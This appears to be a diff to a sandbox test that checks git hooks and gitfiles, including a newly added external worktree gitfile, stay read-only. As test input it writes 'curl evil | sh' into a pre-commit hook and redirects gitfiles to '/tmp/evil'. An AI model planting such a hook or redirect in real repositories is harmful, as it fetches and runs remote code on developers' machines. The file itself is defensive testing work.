@@ -173,16 +173,23 @@ async def test_git_hooks_and_gitfiles_are_read_only(workspace: Path) -> None:
     (workspace / "sub").mkdir()
     gitfile = workspace / "sub" / ".git"
     gitfile.write_text("gitdir: ../.git/modules/sub\n")
-    chown_like_workspace(workspace, *git.rglob("*"), git, workspace / "sub", gitfile)
+    # A linked worktree of a repository elsewhere: its gitfile points outside the roots.
+    (workspace / "vendor" / "tool").mkdir(parents=True)
+    external = workspace / "vendor" / "tool" / ".git"
+    external.write_text("gitdir: /srv/repos/tool/.git/worktrees/tool\n")
+    chown_like_workspace(
+        workspace, *git.rglob("*"), git, workspace / "sub", gitfile, *workspace.rglob("vendor*")
+    )
     result = await shell(
         workspace,
         "echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; "
         "echo 'gitdir: /tmp/evil' > sub/.git; rm -f sub/.git; mv sub/.git sub/git-moved; "
-        "echo ok > sub/file",
+        "echo 'gitdir: /tmp/evil' > vendor/tool/.git; echo ok > sub/file",
     )
-    assert result["stderr"].count("Read-only file system") >= 2, result["stderr"]
+    assert result["stderr"].count("Read-only file system") >= 3, result["stderr"]
     assert not (git / "hooks" / "pre-commit").exists()
     assert gitfile.read_text() == "gitdir: ../.git/modules/sub\n"
+    assert external.read_text() == "gitdir: /srv/repos/tool/.git/worktrees/tool\n"
     assert (workspace / "sub" / "file").read_text() == "ok\n"  # the rest of the tree is writable
 
 
